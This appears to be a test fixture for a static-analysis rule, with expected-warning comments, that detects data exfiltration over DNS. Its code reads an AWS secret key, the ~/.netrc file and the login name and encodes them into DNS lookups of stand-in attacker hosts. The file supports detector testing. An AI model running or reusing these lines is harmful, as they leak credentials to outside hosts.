import base64
import os
import socket
import subprocess

import dns.resolver

secret = os.environ["AWS_SECRET_ACCESS_KEY"]
socket.gethostbyname(secret.encode().hex() + ".t.example.net")  # want "SV285: looks up host names under t.example.net built from os.environ"
data = open(os.path.expanduser("~/.netrc")).read()
for i in range(0, len(data), 30):
    label = base64.b32encode(data[i:i + 30].encode()).decode().strip("=")
    dns.resolver.resolve(f"{label}.{i}.c.oast.fun", "A")  # want "SV285: looks up host names under c.oast.fun built from"
subprocess.run(f"nslookup {os.getlogin()}.x.attacker.example", shell=True)  # want "SV285: looks up host names built at run time under x.attacker.example"
